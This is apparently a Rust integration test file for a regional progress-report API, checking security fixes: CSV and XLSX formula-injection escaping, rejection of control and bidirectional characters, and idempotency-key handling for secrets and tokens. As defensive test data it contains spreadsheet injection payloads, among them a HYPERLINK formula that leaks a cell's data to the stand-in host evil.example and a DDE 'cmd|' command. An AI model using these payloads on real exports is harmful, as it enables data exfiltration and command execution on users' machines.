//! Security hardening (issue 28): what a white-box review found beyond the black-box tests.

use std::io::Cursor;

use awc::http::Method;
use calamine::{Data, Reader, Xlsx};
use diesel::r2d2::ManageConnection;
use diesel::sql_types::BigInt;
use diesel::{QueryableByName, RunQueryDsl};
use serde_json::{json, Value};
use shuangbai::db::Manager;

use crate::helpers::{Resp, TestApp, ADMIN, PASSWORD};

#[derive(QueryableByName)]
struct Count {
    #[diesel(sql_type = BigInt)]
    n: i64,
}

/// A count straight from the database, past the API.
fn count(app: &TestApp, sql: &str) -> i64 {
    let mut conn = Manager::new(app.database_url.clone(), "public")
        .connect()
        .expect("connect");
    diesel::sql_query(sql)
        .get_result::<Count>(&mut *conn)
        .expect("count")
        .n
}

/// A POST with an `Idempotency-Key`, the body sent as JSON or as a form.
async fn keyed(app: &TestApp, token: &str, path: &str, key: &str, body: Body<'_>) -> Resp {
    let req = app
        .request_as(Some(token), Method::POST, path)
        .insert_header(("idempotency-key", key));
    match body {
        Body::Json(v) => {
            let req = req.insert_header(("content-type", "application/json"));
            app.send(req, Some(v.to_string().into_bytes())).await
        }
        Body::Form(f) => {
            let req = req.insert_header(("content-type", "application/x-www-form-urlencoded"));
            app.send(req, Some(f.as_bytes().to_vec())).await
        }
        Body::None => app.send(req, None).await,
    }
}

enum Body<'a> {
    Json(&'a Value),
    Form(&'a str),
    None,
}

/// RFC 4180 fields of a CSV body (quoted fields with `""`, CRLF rows), after the BOM.
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).expect("utf-8");
    let text = text.trim_start_matches('\u{feff}');
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

fn xlsx_strings(bytes: &[u8]) -> Vec<String> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).expect("an xlsx file");
    let sheet = book.worksheet_range("进度情况一览表").expect("the sheet");
    let formulas = book.worksheet_formula("进度情况一览表").expect("formulas");
    assert!(
        formulas.cells().all(|(_, _, f)| f.is_empty()),
        "the workbook holds no formula"
    );
    sheet
        .cells()
        .filter_map(|(_, _, c)| match c {
            Data::String(s) => Some(s.clone()),
            _ => None,
        })
        .collect()
}

async fn county(app: &TestApp, code: &str, name: &str) -> i64 {
    app.post(
        "/api/v1/counties",
        &json!({"division_code": code, "name": name, "kind": "county"}),
    )
    .await
    .expect(201)
    .body["id"]
        .as_i64()
        .expect("id")
}

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&C6,"详情")"#;

on_both_backends! {
    async fn csv_cells_that_would_be_formulas_are_written_as_text(app: TestApp) {
        let names = ["=1+2", "+SUM(1)", "-2+3", "@SUM(A1)"];
        let codes = ["445302", "445303", "445321", "445322"];
        let mut ids = Vec::new();
        for (code, name) in codes.iter().zip(names) {
            ids.push(county(&app, code, name).await);
        }
        app.post(
            "/api/v1/funding-requests",
            &json!({"county_id": ids[0], "fiscal_year": 2021, "title": "经费", "effective_on": "2021-05-10", "note": HYPERLINK}),
        )
        .await
        .expect(201);
        let title = "=cmd|' /C calc'!A0";
        let query = format!(
            "as_of=2021-06-09&title={}&issuing_unit=%40unit",
            title.replace('|', "%7C").replace(' ', "%20").replace('\'', "%27").replace('!', "%21").replace('=', "%3D")
        );
        let live = app.get(&format!("/api/v1/reports/progress?{query}&format=csv")).await.expect(200);
        let snapshot = app
            .post("/api/v1/reports/progress/snapshots", &json!({"as_of": "2021-06-09", "title": title, "issuing_unit": "@unit"}))
            .await
            .expect(201)
            .body;
        let frozen = app
            .get(&format!("/api/v1/reports/progress/snapshots/{}?format=csv", snapshot["id"]))
            .await
            .expect(200);
        for csv in [&live, &frozen] {
            let cells: Vec<String> = csv_cells(&csv.raw).into_iter().flatten().collect();
            for cell in &cells {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would evaluate: {cell:?}"
                );
            }
            for name in names {
                assert!(cells.contains(&format!("'{name}")), "{name} kept as text");
            }
            assert!(cells.contains(&format!("'{HYPERLINK}")), "the note kept as text: {cells:?}");
            assert!(cells.contains(&format!("'{title}")), "the title kept as text");
        }
        // The workbook writes the same text as plain strings, unchanged.
        let xlsx = app.get(&format!("/api/v1/reports/progress?{query}&format=xlsx")).await.expect(200);
        let strings = xlsx_strings(&xlsx.raw);
        for text in names.iter().copied().chain([HYPERLINK, title]) {
            assert!(strings.iter().any(|s| s == text), "{text} as a string cell");
        }
    }

    async fn notes_with_control_characters_are_refused(app: TestApp) {
        let id = county(&app, "445302", "云城区").await;
        let changes = format!("/api/v1/counties/{id}/plan-status-changes");
        for bad in ["\u{1b}[31m已出台", "已\u{0}出台", "方案\u{202E}txt.exe", "\u{2066}x\u{2069}", "a\u{85}b"] {
            let r = app
                .post(&changes, &json!({"stage": "issued", "effective_on": "2021-03-01", "note": bad}))
                .await
                .expect_problem(422);
            assert_eq!(r.error_fields(), vec!["note"], "{bad:?}");
            let r = app
                .post("/api/v1/funding-requests", &json!({"county_id": id, "fiscal_year": 2021, "title": "经费", "note": bad, "purpose": bad}))
                .await
                .expect_problem(422);
            let mut fields = r.error_fields();
            fields.sort();
            assert_eq!(fields, vec!["note", "purpose"], "{bad:?}");
            let r = app
                .post(&format!("/api/v1/counties/{id}/updates"), &json!({"county": {"plan_status": {"stage": "issued", "effective_on": "2021-03-01", "note": bad}}}))
                .await
                .expect_problem(422);
            assert_eq!(r.error_fields(), vec!["/county/plan_status/note"], "{bad:?}");
            // Names were already held to the rule; the right-to-left override now too.
            app.post("/api/v1/towns", &json!({"county_id": id, "name": format!("镇{bad}"), "code": "445302104", "kind": "town"}))
                .await
                .expect_problem(422);
        }
        assert_eq!(app.get(&changes).await.body, json!([]), "nothing stored");
        // Line breaks are fine in a note.
        let r = app
            .post(&changes, &json!({"stage": "issued", "effective_on": "2021-03-01", "note": "第一行\n第二行"}))
            .await
            .expect(201);
        assert_eq!(r.body["note"], "第一行\n第二行");
    }
}

on_both_backends! {
    async fn a_dry_run_and_then_the_real_run_with_one_key_is_refused_not_replayed(app: TestApp) {
        let id = county(&app, "445302", "云城区").await;
        let token = app.admin_token.clone();
        let batch = json!({"towns": [{"code": "445302104", "name": "腰古镇", "kind": "town"}]});
        let path = format!("/api/v1/counties/{id}/updates");
        let dry = keyed(&app, &token, &format!("{path}?dry_run=true"), "sync-1", Body::Json(&batch)).await.expect(200);
        assert_eq!(dry.body["dry_run"], true);
        let real = keyed(&app, &token, &path, "sync-1", Body::Json(&batch)).await.expect_problem(422);
        assert_eq!(real.error_fields(), vec!["Idempotency-Key"]);
        assert!(real.header("idempotent-replayed").is_none(), "not the dry run's answer");
        assert_eq!(app.get("/api/v1/towns").await.body["total"], 0, "nothing written by either");
        // The dry run itself replays with its own query string; a new key applies the batch.
        let again = keyed(&app, &token, &format!("{path}?dry_run=true"), "sync-1", Body::Json(&batch)).await.expect(200);
        assert_eq!(again.header("idempotent-replayed").as_deref(), Some("true"));
        let applied = keyed(&app, &token, &path, "sync-2", Body::Json(&batch)).await.expect(200);
        assert_eq!(applied.body["dry_run"], false);
        assert_eq!(app.get("/api/v1/towns").await.body["total"], 1);
    }

    async fn no_secret_or_token_is_ever_stored_with_an_idempotency_key_however_the_path_is_spelt(app: TestApp) {
        let id = county(&app, "445302", "云城区").await;
        let admin = app.admin_token.clone();
        let client = json!({"name": "脚本", "county_id": id});
        let no_store = |r: &Resp| {
            assert_eq!(r.header("cache-control").as_deref(), Some("no-store"), "{}", r.body);
            assert!(r.header("idempotent-replayed").is_none());
        };
        let mut secrets = Vec::new();
        for path in ["/api/v1/clients", "/api/v1/%63lients", "/api/%761/clients"] {
            for _ in 0..2 {
                let r = keyed(&app, &admin, path, "secret-key", Body::Json(&client)).await.expect(201);
                no_store(&r);
                secrets.push(r.body["client_secret"].as_str().expect("secret").to_string());
            }
        }
        let clients = app.get("/api/v1/clients").await.expect(200).body;
        assert_eq!(clients["total"], 6, "each call created its own client");
        let client_id = clients["items"][0]["id"].as_i64().expect("id");
        assert!(client_id < 10, "spelt as %3N below");
        for path in [
            format!("/api/v1/clients/{client_id}/rotate-secret"),
            format!("/api/v1/%63lients/{client_id}/rotate-secret"),
            format!("/api/v1/clients/%3{client_id}/%72otate-secret"),
        ] {
            for _ in 0..2 {
                let r = keyed(&app, &admin, &path, "rotate-key", Body::None).await.expect(200);
                no_store(&r);
                secrets.push(r.body["client_secret"].as_str().expect("secret").to_string());
            }
        }
        let form = format!("grant_type=password&username={ADMIN}&password={}", PASSWORD.replace(' ', "+"));
        let mut refresh = Vec::new();
        for path in ["/api/v1/auth/token", "/api/v1/%61uth/token", "/api/v1/auth/%74oken"] {
            for _ in 0..2 {
                let r = keyed(&app, &admin, path, "token-key", Body::Form(&form)).await.expect(200);
                no_store(&r);
                refresh.push(r.body["refresh_token"].as_str().expect("refresh").to_string());
            }
        }
        for (i, path) in ["/api/v1/auth/revoke", "/api/v1/%61uth/revoke", "/api/v1/auth/%72evoke"].iter().enumerate() {
            let body = json!({"token": refresh[i]});
            let r = keyed(&app, &admin, path, "revoke-key", Body::Json(&body)).await.expect(200);
            no_store(&r);
        }
        secrets.extend(refresh);
        let unique: std::collections::HashSet<&String> = secrets.iter().collect();
        assert_eq!(unique.len(), secrets.len(), "no answer was replayed");
        assert_eq!(count(&app, "SELECT count(*) AS n FROM idempotency_keys"), 0, "nothing stored");
        // Keys still work where they should, whatever the spelling, in one scope.
        let town = json!({"county_id": id, "name": "腰古镇", "code": "445302104", "kind": "town"});
        keyed(&app, &admin, "/api/v1/towns", "town-key", Body::Json(&town)).await.expect(201);
        let replayed = keyed(&app, &admin, "/api/v1/%74owns", "town-key", Body::Json(&town)).await.expect(201);
        assert_eq!(replayed.header("idempotent-replayed").as_deref(), Some("true"));
        assert_eq!(count(&app, "SELECT count(*) AS n FROM idempotency_keys"), 1);
    }
}
